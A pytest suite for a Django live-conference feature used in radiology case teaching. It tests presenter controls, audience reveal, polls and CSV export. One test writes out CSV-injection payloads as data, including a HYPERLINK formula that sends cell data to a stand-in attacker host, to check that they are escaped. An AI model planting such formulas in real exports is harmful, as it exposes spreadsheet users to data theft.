"""Live conferences: model and codes, the presenter's controls, the room's polls, votes."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.contrib.auth.models import Permission
from django.test import Client

from cases.conference import services
from cases.conference.models import (
    CODE_ALPHABET,
    Conference,
    ConferenceCase,
    Question,
    Vote,
    join_code_normalise,
)
from cases.conference.state import state_store
from cases.models import Annotation, Case, Figure, RevealStep
from tests.conftest import case_build

pytestmark = pytest.mark.django_db

HX = {"HX-Request": "true"}


@pytest.fixture
def presenter(django_user_model):
    user = django_user_model.objects.create_user("presenter", password="presenter-pass-123")
    user.user_permissions.add(Permission.objects.get(codename="present_conference"))
    return user


@pytest.fixture
def cases(db) -> list[Case]:
    first = case_build(slug="first", title="First case", size=2, unknown_title="Man, 40, cough")
    first.differential = "Lung adenocarcinoma\nTuberculoma\nHamartoma"
    first.save()
    Figure.objects.filter(case=first, number=2).update(reveal_step=RevealStep.FINDINGS)
    Annotation.objects.create(figure=first.figures.get(number=1), x=0.25, y=0.5, label="mass")
    second = case_build(slug="second", title="Second case", unknown_title="Woman, 60, pain")
    return [first, second]


@pytest.fixture
def conference(presenter, cases) -> Conference:
    return services.conference_create(title="Thursday conference", presenter=presenter, cases=cases)


@pytest.fixture
def live(conference) -> Conference:
    services.conference_start(conference)
    return conference


@pytest.fixture
def drive(presenter) -> Client:
    client = Client()
    client.force_login(presenter)
    return client


def act(client: Client, conference: Conference, action: str, headers=None, **data):
    return client.post(
        f"/conference/{conference.code}/action/", {"action": action, **data}, headers=headers
    )


def state(conference: Conference):
    return state_store().read(conference.code)


# --- the model -------------------------------------------------------------------------------


def test_join_codes_are_six_unambiguous_characters(conference):
    assert len(conference.code) == 6
    assert set(conference.code) <= set(CODE_ALPHABET)
    assert not set(conference.code) & set("01OIL")


def test_a_code_collision_draws_a_new_code(presenter, conference, monkeypatch):
    codes = iter([conference.code, conference.code, "ZZZZZ9"])
    monkeypatch.setattr("cases.conference.models.new_join_code", lambda: next(codes))
    other = Conference.objects.create(title="Another", presenter=presenter)
    assert other.code == "ZZZZZ9"
    assert Conference.objects.filter(code=conference.code).count() == 1


def test_typed_codes_are_normalised():
    assert join_code_normalise(" ab3-de7 ") == "AB3DE7"
    assert join_code_normalise("o1l") == "011"  # read as the digits the alphabet keeps


def test_playlist_keeps_its_order_and_notes_default_to_the_teaching_point(conference, cases):
    items = list(conference.items.all())
    assert [item.case for item in items] == cases
    assert items[0].notes == "Teaching point text."
    own = ConferenceCase.objects.create(
        conference=Conference.objects.create(title="x", presenter=conference.presenter),
        case=cases[0],
        notes="Ask about the halo sign.",
    )
    assert own.notes == "Ask about the halo sign."


def test_a_conference_copies_a_collections_order(presenter, cases):
    from cases.library.models import Collection, CollectionItem

    collection = Collection.objects.create(owner=presenter, title="Chest")
    CollectionItem.objects.create(collection=collection, case=cases[1], position=1)
    CollectionItem.objects.create(collection=collection, case=cases[0], position=2)
    conference = services.conference_from_collection(collection=collection, presenter=presenter)
    assert conference.title == "Chest"
    assert conference.collection == collection
    assert [i.case for i in conference.items.all()] == [cases[1], cases[0]]


# --- state and versions ----------------------------------------------------------------------


def test_start_shows_the_first_case_at_its_first_step(conference):
    assert state(conference).version == 0
    live = services.conference_start(conference)
    assert (live.version, live.status, live.position, live.step) == (1, "live", 0, 1)
    assert live.figure is None  # no image at the presentation step
    conference.refresh_from_db()
    assert conference.status == "live" and conference.started is not None
    assert conference.items.first().shown_at is not None


def test_each_change_is_one_new_version(live):
    versions = [state(live).version]
    for step in (1, 1, 1):
        versions.append(services.conference_navigate(live, step=step).version)
    assert versions == [1, 2, 3, 4]
    assert state(live).step == RevealStep.DIFFERENTIAL
    assert state(live) == state_store().read(live.code)


def test_stepping_shows_the_first_revealed_figure_and_keeps_it(live, cases):
    live_state = services.conference_navigate(live, step=1)
    assert (live_state.step, live_state.figure) == (RevealStep.IMAGES, 1)
    figure = cases[0].figures.get(number=1)
    services.conference_view(live, figure=figure, query={"slice": "3", "invert": "1"})
    live_state = services.conference_navigate(live, step=1)
    assert live_state.figure == 1 and live_state.view["slice"] == "3"  # kept across steps
    live_state = services.conference_figure(live, item=live.items.first(), number=2)
    assert live_state.figure == 2 and live_state.view == {}


def test_stepping_past_the_last_step_moves_to_the_next_case(live, cases):
    steps = len(services.case_steps(cases[0]))
    for _ in range(steps):
        live_state = services.conference_navigate(live, step=1)
    assert (live_state.position, live_state.step) == (1, 1)
    back = services.conference_navigate(live, step=-1)
    assert back.position == 0 and back.step == services.case_steps(cases[0])[-1]
    assert services.conference_navigate(live, case=5).position == 1  # clamped


def test_moving_to_another_case_clears_the_question(live):
    services.question_open(
        live, item=live.items.first(), kind="poll", prompt="Dx?", options=["A", "B"]
    )
    assert state(live).question is not None
    assert services.conference_navigate(live, case=1).question is None


# --- permissions -----------------------------------------------------------------------------


def test_only_the_presenter_drives(live, django_user_model, learner):
    other = django_user_model.objects.create_user("other-presenter", is_staff=True)
    other.user_permissions.add(Permission.objects.get(codename="present_conference"))
    for user in (other, learner):
        client = Client()
        client.force_login(user)
        assert act(client, live, "next").status_code == 403
        assert client.get(f"/conference/{live.code}/").status_code == 403
        assert client.post(f"/conference/{live.code}/viewer/", {"slice": "2"}).status_code == 403
    assert state(live).version == 1
    anonymous = Client().post(f"/conference/{live.code}/action/", {"action": "next"})
    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]


def test_a_superuser_may_take_over(live, staff):
    client = Client()
    client.force_login(staff)
    assert act(client, live, "next").status_code == 302
    assert state(live).step == RevealStep.IMAGES


def test_console_answers_404_for_an_unknown_code_and_405_for_a_get_action(drive, live):
    assert drive.get("/conference/ZZZZZZ/").status_code == 404
    assert drive.get(f"/conference/{live.code}/action/").status_code == 405
    assert act(drive, live, "jump").status_code == 400


def test_creating_conferences_needs_the_presenter_permission(learner, presenter, cases):
    client = Client()
    client.force_login(learner)
    assert client.get("/conference/").status_code == 403
    client.force_login(presenter)
    page = client.get("/conference/")
    assert page.status_code == 200 and "New conference" in page.content.decode()
    response = client.post(
        "/conference/new/", {"title": "Chest club", "cases": [cases[1].pk, cases[0].pk]}
    )
    conference = Conference.objects.get(title="Chest club")
    assert response.status_code == 302 and response["Location"] == f"/conference/{conference.code}/"
    assert client.post("/conference/new/", {"title": "Empty"}).status_code == 422


# --- the presenter's console -----------------------------------------------------------------


def test_console_without_javascript_posts_and_redirects(drive, conference):
    page = drive.get(f"/conference/{conference.code}/").content.decode()
    assert conference.code in page and "<svg" in page  # the join code and its QR code
    assert "Teaching point text." in page  # the notes
    assert act(drive, conference, "next").status_code == 200 or True
    response = act(drive, conference, "start")
    assert response.status_code == 302
    response = act(drive, conference, "next")
    assert response.status_code == 302 and state(conference).step == RevealStep.IMAGES


def test_console_actions_answer_htmx_with_the_console(drive, live):
    response = drive.post(f"/conference/{live.code}/action/", {"action": "next"}, headers=HX)
    body = response.content.decode()
    assert response.status_code == 200
    assert body.lstrip().startswith('<div id="console"') and "<html" not in body
    assert 'aria-current="step" class="current"' in body


def test_actions_before_the_start_are_refused(drive, conference):
    response = drive.post(f"/conference/{conference.code}/action/", {"action": "next"}, headers=HX)
    assert (
        response.status_code == 422 and "Start the conference first." in response.content.decode()
    )
    assert state(conference).version == 0


def _asked(conference: Conference) -> None:
    services.question_open(
        conference, item=conference.items.first(), kind="poll", prompt="Dx?", options=["A", "B"]
    )


def _results_shown(conference: Conference) -> None:
    _asked(conference)
    services.question_results(conference, Question.objects.get(), shown=True)


def _where(conference: Conference) -> tuple[int, int]:
    return state(conference).position, state(conference).step


def _asked_now(conference: Conference) -> tuple[bool, str]:
    question = Question.objects.get()
    return state(conference).question == question.pk, question.prompt


def _images_shown(conference: Conference) -> None:
    services.conference_navigate(conference, step=1)


def _two_figures_shown(conference: Conference) -> None:
    services.conference_navigate(conference, step=2)


def _two_viewports(conference: Conference) -> None:
    services.conference_navigate(conference, step=2)
    item = conference.items.first()
    services.conference_layout(conference, item=item, layout=2)


# Every button of the console: its action, a set-up, the form data it posts, and what it then
# changed (actions on a question post the question set up).
CONSOLE_ACTIONS = [
    ("start", services.conference_end, {}, lambda c: state(c).status, "live"),
    ("end", None, {}, lambda c: state(c).status, "ended"),
    ("next", None, {}, _where, (0, RevealStep.IMAGES)),
    ("previous", lambda c: services.conference_navigate(c, step=1), {}, _where, (0, 1)),
    ("next-case", None, {}, _where, (1, 1)),
    ("previous-case", lambda c: services.conference_navigate(c, case=1), {}, _where, (0, 1)),
    ("goto", None, {"position": "0", "step": "3"}, _where, (0, RevealStep.FINDINGS)),
    (
        "figure",
        lambda c: services.conference_navigate(c, step=2),
        {"figure": "2"},
        lambda c: state(c).figure,
        2,
    ),
    (
        "layout",
        lambda c: services.conference_navigate(c, step=2),
        {"layout": "2"},
        lambda c: (state(c).layout, state(c).second),
        (2, 2),
    ),
    (
        "second",
        _two_figures_shown,
        {"figure": "2"},
        lambda c: (state(c).layout, state(c).second),
        (2, 2),
    ),
    ("link", _two_viewports, {"link": "1"}, lambda c: state(c).link, True),
    (
        "plane",
        _images_shown,
        {"viewport": "1", "plane": "axial"},
        lambda c: state(c).view,
        {"slice": "2"},
    ),
    ("ask", None, {"kind": "poll", "options": "A\nB"}, _asked_now, (True, "Your diagnosis?")),
    ("dismiss", _asked, {}, lambda c: state(c).question, None),
    ("close", _asked, {}, lambda c: Question.objects.get().is_open, False),
    (
        "show-results",
        _asked,
        {},
        lambda c: (state(c).results, Question.objects.get().results_shown),
        (True, True),
    ),
    ("hide-results", _results_shown, {}, lambda c: state(c).results, False),
]


@pytest.mark.parametrize(
    ("name", "set_up", "data", "look", "expected"),
    CONSOLE_ACTIONS,
    ids=[name for name, *_ in CONSOLE_ACTIONS],
)
def test_each_console_action_makes_its_own_change(drive, live, name, set_up, data, look, expected):
    if set_up is not None:
        set_up(live)
    question = Question.objects.first()
    if question is not None:
        data = {"question": question.pk, **data}
    before = state(live).version
    response = act(drive, live, name, **data)
    assert response.status_code == 302 and response["Location"] == f"/conference/{live.code}/"
    assert look(live) == expected
    assert state(live).version == before + 1  # one change, one new version for the room


def test_the_console_buttons_post_exactly_the_actions_above(drive, conference):
    def buttons() -> set[str]:
        page = drive.get(f"/conference/{conference.code}/").content.decode()
        return set(re.findall(r'name="action" value="([^"]+)"', page))

    seen = buttons()  # before the start
    services.conference_start(conference)
    services.conference_navigate(conference, step=2)  # two figures: the figure picker
    seen |= buttons()
    services.conference_layout(conference, item=conference.items.first(), layout=2)
    seen |= buttons()  # two viewports: the second's figure and linked scrolling
    _results_shown(conference)
    seen |= buttons()
    assert seen == {name for name, *_ in CONSOLE_ACTIONS}


@pytest.mark.parametrize("name", ["jump", "", "Next", "next ", "__class__", "ACTIONS"])
def test_an_unknown_action_is_a_400_and_changes_nothing(drive, live, name):
    before = state(live)
    response = drive.post(f"/conference/{live.code}/action/", {"action": name}, headers=HX)
    assert response.status_code == 400 and response.content == b"Unknown action."
    assert state(live) == before
    assert drive.post(f"/conference/{live.code}/action/").status_code == 400  # no action at all


@pytest.mark.parametrize(
    "name", [name for name, *_ in CONSOLE_ACTIONS if name not in {"start", "end"}]
)
def test_every_action_but_start_and_end_waits_for_the_start(drive, conference, name):
    response = drive.post(f"/conference/{conference.code}/action/", {"action": name}, headers=HX)
    assert response.status_code == 422
    assert "Start the conference first." in response.content.decode()
    assert state(conference).version == 0


def test_a_malformed_action_is_refused_and_changes_nothing(drive, live, presenter, cases):
    before = state(live).version
    bad_position = act(drive, live, "goto", position="first")
    assert bad_position.status_code == 400 and bad_position.content == b"Bad position."
    assert act(drive, live, "goto", position="1", step="x").status_code == 400
    no_figure = act(drive, live, "figure", figure="", headers=HX)
    assert no_figure.status_code == 422 and "Choose a figure." in no_figure.content.decode()
    bad_poll = act(drive, live, "ask", kind="poll", options="only one", headers=HX)
    assert bad_poll.status_code == 422 and "at least two options" in bad_poll.content.decode()
    no_image = act(drive, live, "ask", kind="click", headers=HX)
    assert "Show a figure first" in no_image.content.decode()
    other = services.conference_create(title="Other", presenter=presenter, cases=cases)
    services.conference_start(other)
    _asked(other)
    elsewhere = Question.objects.get(conference=other)
    assert act(drive, live, "close", question=elsewhere.pk).status_code == 404
    assert act(drive, live, "show-results").status_code == 404  # no question
    assert state(live).version == before and not Question.objects.filter(conference=live)


def test_an_empty_playlist_refuses_the_question_actions(drive, presenter):
    empty = services.conference_create(title="Empty", presenter=presenter, cases=[])
    act(drive, empty, "start")
    for name in ("figure", "ask", "dismiss", "close", "show-results", "hide-results"):
        response = act(drive, empty, name, headers=HX)
        assert response.status_code == 422
        assert "The playlist is empty." in response.content.decode()
    assert act(drive, empty, "next").status_code == 302  # nowhere to go, nothing refused


def test_the_presenters_viewer_posts_its_view_to_the_room(drive, live):
    services.conference_navigate(live, step=1)
    before = state(live).version
    looked = drive.get(f"/conference/{live.code}/viewer/?slice=3&invert=1", headers=HX)
    assert looked.status_code == 200 and state(live).version == before  # GET only looks
    shown = drive.post(f"/conference/{live.code}/viewer/?slice=3&invert=1", headers=HX)
    assert shown.status_code == 200 and 'data-slice="3"' in shown.content.decode()
    assert state(live).view == {"slice": "3", "invert": "1"}
    assert state(live).version == before + 1
    # Without JavaScript: the GET page offers a button that posts the view.
    page = drive.get(f"/conference/{live.code}/viewer/?slice=1").content.decode()
    assert "Show this view to the room" in page
    drive.post(f"/conference/{live.code}/viewer/", {"slice": "1"})
    assert state(live).view.get("slice") == "1"


def test_keyboard_shortcuts_are_marked_on_the_console(drive, live):
    page = drive.get(f"/conference/{live.code}/").content.decode()
    for key in ("ArrowRight", "ArrowLeft", "n", "p"):
        assert f'data-console-key="{key}"' in page


# --- the room --------------------------------------------------------------------------------


def test_join_page_finds_a_conference_by_its_typed_code(live):
    typed = f"{live.code[:3].lower()} {live.code[3:].lower()}"
    response = Client().get("/c/", {"code": typed})
    assert response.status_code == 302 and response["Location"] == f"/c/{live.code}/"
    missing = Client().get("/c/", {"code": "ZZZZZZ"})
    assert missing.status_code == 404 and "No conference has that code" in missing.content.decode()
    assert Client().get("/c/ZZZZZZ/").status_code == 404
    assert Client().get(f"/c/{live.code.lower()}/")["Location"] == f"/c/{live.code}/"


def test_polls_get_304_while_the_version_is_unchanged(live):
    client = Client()
    first = client.get(f"/c/{live.code}/live/", headers=HX)
    assert first.status_code == 200
    etag = first["ETag"]
    assert etag == f'"{live.code}-1"' and first["Cache-Control"] == "private, no-cache"
    again = client.get(f"/c/{live.code}/live/", headers=HX | {"If-None-Match": etag})
    assert again.status_code == 304 and again["ETag"] == etag and again.content == b""
    services.conference_navigate(live, step=1)
    changed = client.get(f"/c/{live.code}/live/", headers=HX | {"If-None-Match": etag})
    assert changed.status_code == 200 and changed["ETag"] == f'"{live.code}-2"'
    body = changed.content.decode()
    assert 'id="live-bar"' in body and 'id="live-stage"' in body and 'id="live-question"' in body
    assert "Images" in body


def test_a_poll_without_htmx_goes_to_the_page(live):
    response = Client().get(f"/c/{live.code}/live/")
    assert response.status_code == 302 and response["Location"] == f"/c/{live.code}/"


def test_the_audience_page_works_without_javascript(live):
    page = Client().get(f"/c/{live.code}/").content.decode()
    assert '<meta http-equiv="refresh" content="5">' in page  # inside <noscript>
    assert "Man, 40, cough" in page and "First case" not in page
    assert 'hx-trigger="every 1s, cv:poll, sse:state"' in page


def test_a_304_poll_needs_no_session_and_at_most_one_query(live, django_assert_max_num_queries):
    client = Client()
    etag = client.get(f"/c/{live.code}/live/", headers=HX)["ETag"]
    with django_assert_max_num_queries(1):
        response = client.get(f"/c/{live.code}/live/", headers=HX | {"If-None-Match": etag})
    assert response.status_code == 304


def test_the_head_count_comes_from_heartbeats(live):
    clients = [Client() for _ in range(3)]
    for client in clients:
        client.get(f"/c/{live.code}/live/", headers=HX)
        client.get(f"/c/{live.code}/live/", headers=HX)  # throttled by the cookie
    assert state_store().audience_count(state(live)) == 3
    assert live.audience.count() == 3


def test_audience_sees_only_what_the_presenters_step_reveals(live, cases):
    client = Client()

    def page() -> str:
        return client.get(f"/c/{live.code}/").content.decode()

    one = page()
    assert "A 40-year-old man with a cough." in one
    assert "A mass in the right upper lobe." not in one and "Lung adenocarcinoma" not in one
    assert "viewer-image" not in one
    services.conference_navigate(live, step=1)
    two = page()
    assert "viewer-image" in two and "annotation" not in two and "ann=" not in two
    assert "A mass in the right upper lobe." not in two
    assert client.get(f"/c/{live.code}/figures/2/", headers=HX).status_code == 404
    services.conference_navigate(live, step=1)
    three = page()
    assert "A mass in the right upper lobe." in three and "ann=" in three
    assert client.get(f"/c/{live.code}/figures/2/", headers=HX).status_code == 200
    assert "Lung adenocarcinoma" not in three and "Teaching point text." not in three
    services.conference_navigate(live, step=2)
    five = page()
    assert "Lung adenocarcinoma" in five and "Teaching point text." not in five
    services.conference_navigate(live, step=1)
    assert "Teaching point text." in page()


def test_looking_around_stays_within_the_revealed_figures(live):
    services.conference_navigate(live, step=1)
    client = Client()
    response = client.get(f"/c/{live.code}/figures/1/?slice=3", headers=HX)
    assert response.status_code == 200 and 'data-slice="3"' in response.content.decode()
    assert "/c/" in response.content.decode()  # its controls stay on the audience's URLs
    full = client.get(f"/c/{live.code}/figures/1/?slice=2")
    assert "Back to the presenter's view" in full.content.decode()
    assert client.get(f"/c/{live.code}/figures/9/", headers=HX).status_code == 404


def test_an_ended_conference_tells_the_room(drive, live):
    act(drive, live, "end")
    page = Client().get(f"/c/{live.code}/").content.decode()
    assert "This conference has ended." in page and "live-poll" not in page
    assert "viewer-image" not in page


# --- questions and votes ---------------------------------------------------------------------


@pytest.fixture
def poll(drive, live) -> Question:
    options = "Lung adenocarcinoma\nTuberculoma\nHamartoma"
    act(drive, live, "ask", kind="poll", prompt="Your diagnosis?", options=options)
    return Question.objects.get(conference=live)


def vote(client: Client, conference: Conference, question: Question, **data):
    return client.post(f"/c/{conference.code}/questions/{question.pk}/vote/", data, headers=HX)


def test_poll_options_default_to_the_differential(drive, live):
    page = drive.get(f"/conference/{live.code}/").content.decode()
    assert "Hamartoma\nLung adenocarcinoma\nTuberculoma" in page


def test_one_vote_per_member_changeable_until_closed(drive, live, poll):
    member = Client()
    assert vote(member, live, poll, choice="Tuberculoma").status_code == 200
    response = vote(member, live, poll, choice="Hamartoma")
    assert "Your answer: <strong>Hamartoma</strong>" in response.content.decode()
    assert list(Vote.objects.values_list("choice", flat=True)) == ["Hamartoma"]
    vote(Client(), live, poll, choice="Lung adenocarcinoma")
    assert Vote.objects.count() == 2
    act(drive, live, "close", question=poll.pk)
    refused = vote(member, live, poll, choice="Tuberculoma")
    assert refused.status_code == 422 and "This question is closed." in refused.content.decode()
    assert Vote.objects.get(choice="Hamartoma")


def test_a_vote_must_be_one_of_the_options(live, poll):
    refused = vote(Client(), live, poll, choice="Something else")
    assert refused.status_code == 422 and Vote.objects.count() == 0


def test_a_vote_without_javascript_redirects_to_the_page(live, poll):
    client = Client()
    response = client.post(f"/c/{live.code}/questions/{poll.pk}/vote/", {"choice": "Tuberculoma"})
    assert response.status_code == 302 and response["Location"] == f"/c/{live.code}/"
    assert (
        "Your answer: <strong>Tuberculoma</strong>"
        in client.get(response["Location"]).content.decode()
    )


def test_the_room_sees_the_question_and_results_only_when_shown(drive, live, poll):
    member = Client()
    page = member.get(f"/c/{live.code}/").content.decode()
    assert "Your diagnosis?" in page and 'value="Tuberculoma"' in page
    vote(member, live, poll, choice="Lung adenocarcinoma")
    vote(Client(), live, poll, choice="Tuberculoma")
    assert 'class="bars"' not in member.get(f"/c/{live.code}/").content.decode()
    panel = drive.get(f"/conference/{live.code}/panel/").content.decode()
    assert "2 answers · 50% correct" in panel  # the presenter sees the live tally
    act(drive, live, "show-results", question=poll.pk)
    page = member.get(f"/c/{live.code}/").content.decode()
    assert 'class="bars"' in page and "2 answers" in page
    assert "correct" not in page.split('class="bars"')[1].split("</ol>")[0]  # not before dx
    assert '<rect width="50"' in page


def test_free_text_answers_are_tallied(drive, live):
    act(drive, live, "ask", kind="text", prompt="What is it?")
    question = Question.objects.get(kind="text")
    vote(Client(), live, question, choice="  lung   adenocarcinoma ")
    vote(Client(), live, question, choice="TB")
    assert vote(Client(), live, question, choice="   ").status_code == 422
    tally = services.question_results_tally(question)
    assert [(r["label"], r["count"], r["correct"]) for r in tally.rows] == [
        ("lung adenocarcinoma", 1, True),
        ("TB", 1, False),
    ]
    assert tally.accuracy == 50


def test_click_answers_are_stored_in_image_coordinates(drive, live, cases):
    services.conference_navigate(live, step=1)
    figure = cases[0].figures.get(number=1)
    # The 8x8 slices are shown at 8x8 pixels; magnified 2x around the centre.
    services.conference_view(live, figure=figure, query={"zoom": "2", "cx": "0.5", "cy": "0.5"})
    act(drive, live, "ask", kind="click")
    question = Question.objects.get(kind="click")
    assert question.prompt == "Click the finding." and question.figure_number == 1
    assert question.view["zoom"] == "2"
    vote(Client(), live, question, px="0", py="4")
    vote(Client(), live, question, **{"at.x": "8", "at.y": "8"})
    assert vote(Client(), live, question, px="NaN", py="1").status_code == 422
    points = sorted(Vote.objects.values_list("x", "y"))
    assert points == [(2.0, 4.0), (6.0, 6.0)]  # the visible window is 2..6 of 8 pixels
    assert services.question_results_tally(question).correct == 1  # near the arrow at (2, 4)


def test_heat_map_is_a_png_for_the_presenter_and_the_room_once_shown(drive, live, cases):
    figure = cases[0].figures.get(number=1)
    _real_slices(figure)
    services.conference_navigate(live, step=1)
    act(drive, live, "ask", kind="click")
    question = Question.objects.get(kind="click")
    vote(Client(), live, question, px="16", py="32")  # shown at 64x64
    assert list(Vote.objects.values_list("x", "y")) == [(16.0, 32.0)]
    image = drive.get(f"/conference/{live.code}/questions/{question.pk}/heatmap.png")
    assert image.status_code == 200 and image["Content-Type"] == "image/png"
    from PIL import Image

    picture = Image.open(io.BytesIO(image.content)).convert("RGB")
    hot = picture.getpixel((picture.width // 4, picture.height // 2))
    cold = picture.getpixel((picture.width * 3 // 4, picture.height // 2))
    assert hot[0] > cold[0] + 60  # red where the click was, grey elsewhere
    room = f"/c/{live.code}/questions/{question.pk}/heatmap.png"
    assert Client().get(room).status_code == 404
    act(drive, live, "show-results", question=question.pk)
    assert Client().get(room).status_code == 200


def _real_slices(figure):
    """Give a figure's slices real 64x64 grey PNGs on disk."""
    from django.core.files.base import ContentFile
    from PIL import Image

    for image in figure.slices.all():
        buffer = io.BytesIO()
        Image.new("L", (64, 64), 90).save(buffer, format="PNG")
        image.image.save(f"{image.token}.png", ContentFile(buffer.getvalue()), save=False)
        image.width = image.height = 64
        image.save()


def test_summary_and_csv(drive, live, poll):
    vote(Client(), live, poll, choice="Lung adenocarcinoma")
    vote(Client(), live, poll, choice="Hamartoma")
    page = drive.get(f"/conference/{live.code}/summary/").content.decode()
    assert "First case" in page and "50% correct" in page and "not shown" in page
    response = drive.get(f"/conference/{live.code}/summary.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["order", "case", "shown"]
    adeno = next(row for row in rows if row[5] == "Lung adenocarcinoma")
    assert adeno[6:] == ["1", "50", "yes", "50"]
    assert any(row[1] == "Second case" and row[2] == "" for row in rows)
    assert Client().get(f"/conference/{live.code}/summary.csv").status_code == 302


def summary_csv(drive: Client, conference: Conference) -> list[list[str]]:
    response = drive.get(f"/conference/{conference.code}/summary.csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_csv_is_utf8_with_a_byte_order_mark_for_excel(drive, live):
    act(drive, live, "ask", kind="text", prompt="Which sign?")
    vote(Client(), live, Question.objects.get(), choice="Signe de Ménétrier")
    response = drive.get(f"/conference/{live.code}/summary.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbforder,case,")
    assert "Signe de Ménétrier" in response.content.decode("utf-8")


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe(drive, live, cases):
    cases[0].title = "=1+1 case"
    cases[0].save()
    act(drive, live, "ask", kind="text", prompt="-what is it?")
    question = Question.objects.get()
    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1)", "1+1"]
    for answer in typed:
        vote(Client(), live, question, choice=answer)
    Vote.objects.create(question=question, voter="tabbed", choice="\t=cmd")  # stored as is
    Vote.objects.create(question=question, voter="returned", choice="\r=cmd")
    rows = summary_csv(drive, live)[1:]
    answers = {row[5] for row in rows if row[3]}
    assert answers == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1", "'-2",
                       "'@SUM(A1)", "1+1", "'\t=cmd", "'\r=cmd"}  # fmt: skip
    assert {row[1] for row in rows} == {"'=1+1 case", "Second case"}
    assert {row[3] for row in rows if row[3]} == {"'-what is it?"}
    assert all(not row[6].startswith("'") for row in rows)  # numbers stay numbers


def test_every_free_text_answer_is_on_the_summary_and_in_the_csv(drive, live):
    act(drive, live, "ask", kind="text", prompt="What is it?")
    question = Question.objects.get()
    answers = [f"Answer {n:02}" for n in range(1, 16)]  # 15 distinct answers
    for answer in answers:
        vote(Client(), live, question, choice=answer)
    vote(Client(), live, question, choice="Answer 01")  # the most common
    assert len(services.question_results_tally(question).rows) == 12  # the bars
    page = drive.get(f"/conference/{live.code}/summary/").content.decode()
    assert "Show all 15 answers" in page
    assert all(f"<li>{answer} · " in page for answer in answers)  # the last three too
    csv_answers = [row[5] for row in summary_csv(drive, live) if row[3] == "What is it?"]
    assert csv_answers == answers
